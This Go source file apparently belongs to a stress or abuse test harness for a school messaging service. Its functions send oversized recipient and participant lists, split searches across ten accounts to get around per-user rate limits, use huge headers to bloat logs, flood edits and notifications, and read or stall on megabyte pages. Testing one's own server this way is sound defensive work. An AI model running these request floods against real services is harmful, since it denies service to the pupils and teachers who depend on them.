package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
)

// repeat makes the same request of a pupil, so many at once.
func (t *target) repeat(copies int, method, path string, body []byte) {
	t.each(copies, func(int) { t.ask(method, path, t.token(attackers), body, nil) })
}

// group is one that the first attacker takes part in, with everybody in it.
func (t *target) group() (id int64, participants []int64) {
	me := t.people.Users[attackers].ID
	for _, c := range t.people.Conversations {
		if len(c.Participants) < 3 {
			continue
		}
		for _, p := range c.Participants {
			if p == me {
				return c.ID, c.Participants
			}
		}
	}
	return 0, nil
}

// writeLetters is by a teacher, who may send letters: to more people than a letter may have, and
// in a body that is larger than any letter's.
func (t *target) writeLetters() {
	const teacher = 102
	beginning := `"subject":"x","content":"x",`
	bodies := [][]byte{listBody("recipients", 3_600_000, beginning), listBody("recipients", 15_900_000, beginning)}
	t.each(2, func(n int) { t.ask(http.MethodPost, "/api/email/send/", t.token(teacher), bodies[n], nil) })
}

func (t *target) removeMany() {
	group, _ := t.group()
	path := fmt.Sprintf("/api/messagerie/conversations/%d/participants/", group)
	bodies := [][]byte{listBody("participants", 1_000_000, ""), listBody("participants", 4000, "")}
	t.each(4, func(n int) { t.ask(http.MethodDelete, path, t.token(attackers), bodies[n%2], nil) })
}

// search has ten pupils search at once, because requests are limited per person.
func (t *target) search(query string) {
	t.each(10, func(n int) {
		t.ask(http.MethodGet, "/api/messagerie/search/1/?q="+query, t.token(attackers+n), nil, nil)
	})
}

// askAtLength makes requests that succeed, and so have a line each in the log.
func (t *target) askAtLength() {
	headers := map[string]string{"User-Agent": strings.Repeat("x", 14_000), "Referer": "http://" + strings.Repeat("x", 14_000)}
	t.each(10, func(n int) {
		path := fmt.Sprintf("/api/messagerie/me/?mark=%d%s", rand.IntN(1e9), strings.Repeat("x", 4000))
		t.ask(http.MethodGet, path, t.token(attackers+n), nil, headers)
	})
}

// groupOf250 is the body that creates one.
func (t *target) groupOf250() []byte {
	var ids []int64
	for _, user := range t.people.Users[:249] {
		ids = append(ids, user.ID)
	}
	return encoded(map[string]any{"participants": append(ids, t.people.Users[attackers].ID), "title": "Groupe"})
}

func (t *target) makeGroups() {
	t.repeat(2, http.MethodPost, "/api/messagerie/conversations/create/", t.groupOf250())
}

func (t *target) renameGroup() {
	var made struct {
		ID int64 `json:"conversation_id"`
	}
	_, body := t.ask(http.MethodPost, "/api/messagerie/conversations/create/", t.token(attackers), t.groupOf250(), nil)
	if err := json.Unmarshal(body, &made); err != nil {
		return // the check of the responses reports it
	}
	path := fmt.Sprintf("/api/messagerie/conversations/%d/", made.ID)
	t.each(4, func(int) {
		t.ask(http.MethodPatch, path, t.token(attackers), fmt.Appendf(nil, `{"title":"Groupe %d"}`, rand.IntN(1e9)), nil)
	})
}

func (t *target) editMessage() {
	var made struct {
		ID int64 `json:"id"`
	}
	group, _ := t.group()
	path := fmt.Sprintf("/api/messagerie/messages/%d/", group)
	_, body := t.ask(http.MethodPost, path, t.token(attackers), []byte(`{"content":"x"}`), nil)
	if err := json.Unmarshal(body, &made); err != nil {
		return // likewise
	}
	text := strings.Repeat("<", 9980)
	t.each(4, func(int) {
		t.ask(http.MethodPatch, fmt.Sprintf("%s%d/", path, made.ID), t.token(attackers),
			encoded(map[string]string{"content": fmt.Sprint(text, rand.IntN(1e9))}), nil)
	})
}

// changeProfile makes everybody in the pupil's conversations be told of each change.
func (t *target) changeProfile() {
	path := fmt.Sprintf("/api/collections/users/records/%016d", t.people.Users[attackers].ID)
	locales := [][]byte{[]byte(`{"locale":"en"}`), []byte(`{"locale":"fr"}`)}
	t.each(4, func(int) {
		for _, locale := range locales {
			t.ask(http.MethodPatch, path, t.token(attackers), locale, nil)
		}
	})
}

// readHistory requests the largest pages there are, and reads them.
func (t *target) readHistory() {
	t.repeat(20, http.MethodGet, t.longHistory()+"?limit=200", nil)
}

// longHistory is the path of a conversation whose page has a megabyte.
func (t *target) longHistory() (path string) {
	group, _ := t.group()
	path = fmt.Sprintf("/api/messagerie/messages/%d/", group)
	for range 110 {
		t.ask(http.MethodPost, path, t.token(attackers), encoded(map[string]string{"content": strings.Repeat("é", 5000)}), nil)
	}
	return path
}

// leavePagesUnread requests the largest pages there are, and reads none.
func (t *target) leavePagesUnread() {
	t.leaveUnread(300, t.longHistory()+"?limit=200", t.token(attackers))
}
